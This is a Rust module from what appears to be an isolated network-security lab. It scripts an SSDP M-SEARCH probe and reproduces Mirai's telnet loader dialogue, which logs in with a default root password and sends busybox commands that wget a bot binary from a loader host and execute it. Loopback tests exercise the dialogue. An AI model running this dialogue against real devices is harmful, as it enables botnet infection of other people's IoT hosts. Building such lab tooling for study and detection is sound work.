//! Attacks the lab scripts itself because no packaged tool performs them: Mirai's loader
//! dialogue after a telnet login, and unicast SSDP `M-SEARCH ssdp:all`. Each runs in a thread
//! inside the attacker's namespace, bounded by the phase's time limit.

use std::io::{Read, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use crate::ssdp;

/// A scripted attack with its resolved addresses.
#[derive(Clone, Debug)]
pub enum Scripted {
    /// [`ssdp::search`] of `targets`.
    SsdpSearch {
        /// Hosts asked.
        targets: Vec<Ipv4Addr>,
        /// Rounds.
        rounds: u32,
        /// Milliseconds between rounds.
        interval_ms: u32,
    },
    /// [`telnet_infect`] of `target`.
    TelnetInfect {
        /// The telnet server.
        target: Ipv4Addr,
        /// Login and password.
        credential: (String, String),
        /// Where the bot would fetch its binary from (the attacker itself).
        loader: Ipv4Addr,
    },
}

impl Scripted {
    /// One line saying what runs, for the manifest.
    pub fn describe(&self) -> String {
        match self {
            Scripted::SsdpSearch {
                targets,
                rounds,
                interval_ms,
            } => format!(
                "(scripted) ssdp M-SEARCH ssdp:all x{rounds} every {interval_ms} ms to {}",
                targets
                    .iter()
                    .map(ToString::to_string)
                    .collect::<Vec<_>>()
                    .join(" ")
            ),
            Scripted::TelnetInfect {
                target, credential, ..
            } => format!(
                "(scripted) Mirai loader dialogue: telnet {target} login {}",
                credential.0
            ),
        }
    }

    /// Runs the attack in the caller's namespace until done or `stop`.
    ///
    /// # Errors
    /// The first socket error, as text.
    pub fn run(&self, stop: &AtomicBool) -> Result<(), String> {
        match self {
            Scripted::SsdpSearch {
                targets,
                rounds,
                interval_ms,
            } => ssdp::search(
                targets,
                *rounds,
                Duration::from_millis(u64::from(*interval_ms)),
                stop,
            )
            .map_err(|e| e.to_string()),
            Scripted::TelnetInfect {
                target,
                credential,
                loader,
            } => telnet_infect(SocketAddr::from((*target, 23)), credential, *loader, stop)
                .map_err(|e| e.to_string()),
        }
    }
}

/// The shell commands Mirai's scanner and loader send after a successful login (as published
/// in analyses of the Mirai source): escape a restricted shell, check for busybox with a
/// marker applet that does not exist, inspect the system, fetch and run the bot.
pub fn mirai_commands(loader: Ipv4Addr) -> Vec<String> {
    vec![
        "enable".into(),
        "system".into(),
        "shell".into(),
        "sh".into(),
        "/bin/busybox ECCHI".into(),
        "/bin/busybox ps; /bin/busybox ECCHI".into(),
        "/bin/busybox cat /proc/mounts; /bin/busybox ECCHI".into(),
        "cd /tmp; /bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI".into(),
        format!("/bin/busybox wget http://{loader}/bins/mirai.arm -O - > dvrHelper; /bin/busybox ECCHI"),
        "./dvrHelper telnet.arm; /bin/busybox IHCCE".into(),
    ]
}

/// Reads from `s` until the text read ends in one of `marks` (then returns it) or `limit`
/// passes or `stop` is raised (then returns what was read).
fn read_until(
    s: &mut TcpStream,
    marks: &[&str],
    limit: Duration,
    stop: &AtomicBool,
) -> std::io::Result<String> {
    let end = Instant::now() + limit;
    let mut got = Vec::new();
    let mut buf = [0u8; 512];
    while Instant::now() < end && !stop.load(Ordering::Relaxed) {
        match s.read(&mut buf) {
            Ok(0) => break,
            Ok(n) => {
                got.extend_from_slice(&buf[..n]);
                let text = String::from_utf8_lossy(&got);
                if marks
                    .iter()
                    .any(|m| text.trim_end().ends_with(m.trim_end()))
                {
                    break;
                }
            }
            Err(e) if crate::sys::timed_out(&e) => {}
            Err(e) => return Err(e),
        }
    }
    Ok(String::from_utf8_lossy(&got).into_owned())
}

/// Logs in to `target`'s telnet with `credential`, then sends [`mirai_commands`], each after
/// the shell's prompt.
///
/// # Errors
/// Connection or socket errors; a refused login.
pub fn telnet_infect(
    target: SocketAddr,
    credential: &(String, String),
    loader: Ipv4Addr,
    stop: &AtomicBool,
) -> std::io::Result<()> {
    let wait = Duration::from_secs(3);
    let mut s = TcpStream::connect_timeout(&target, wait)?;
    s.set_read_timeout(Some(Duration::from_millis(100)))?;
    s.set_nodelay(true)?;
    read_until(&mut s, &["login: "], wait, stop)?;
    s.write_all(format!("{}\r\n", credential.0).as_bytes())?;
    read_until(&mut s, &["Password: "], wait, stop)?;
    s.write_all(format!("{}\r\n", credential.1).as_bytes())?;
    let banner = read_until(&mut s, &["# ", "incorrect\r\n"], wait, stop)?;
    if !banner.trim_end().ends_with('#') {
        return Err(std::io::Error::other("telnet login refused"));
    }
    for c in mirai_commands(loader) {
        if stop.load(Ordering::Relaxed) {
            break;
        }
        s.write_all(format!("{c}\r\n").as_bytes())?;
        read_until(&mut s, &["# "], wait, stop)?;
    }
    s.write_all(b"exit\r\n")?;
    Ok(())
}

#[cfg(test)]
mod test {
    use super::*;
    use std::net::TcpListener;
    use std::sync::Arc;

    /// The fake telnet login on a loopback port, with its stop flag and thread.
    fn fake_login() -> (SocketAddr, Arc<AtomicBool>, std::thread::JoinHandle<()>) {
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
        listener.set_nonblocking(true).unwrap();
        let addr = listener.local_addr().unwrap();
        let stop = Arc::new(AtomicBool::new(false));
        let cred = ("root".to_owned(), "xc3511".to_owned());
        let s = Arc::clone(&stop);
        let t = std::thread::spawn(move || crate::devices::serve_telnet(&listener, cred, &s));
        (addr, stop, t)
    }

    #[test]
    fn the_loader_dialogue_runs_against_the_fake_telnet_login() {
        let (addr, stop, server) = fake_login();
        let never = AtomicBool::new(false);
        let loader = Ipv4Addr::new(198, 18, 0, 66);
        let good = ("root".to_owned(), "xc3511".to_owned());
        telnet_infect(addr, &good, loader, &never).unwrap();
        let bad = ("root".to_owned(), "wrong".to_owned());
        let e = telnet_infect(addr, &bad, loader, &never).unwrap_err();
        assert!(e.to_string().contains("refused"), "{e}");
        stop.store(true, Ordering::Relaxed);
        server.join().unwrap();
    }

    #[test]
    fn the_commands_name_busybox_and_the_loader() {
        let c = mirai_commands(Ipv4Addr::new(198, 18, 0, 66));
        assert!(c.iter().filter(|c| c.contains("/bin/busybox")).count() >= 5);
        assert!(c.iter().any(|c| c.contains("http://198.18.0.66/bins/")));
        // The fake login reads lines of at most 256 bytes.
        assert!(c.iter().all(|c| c.len() < 256));
    }
}
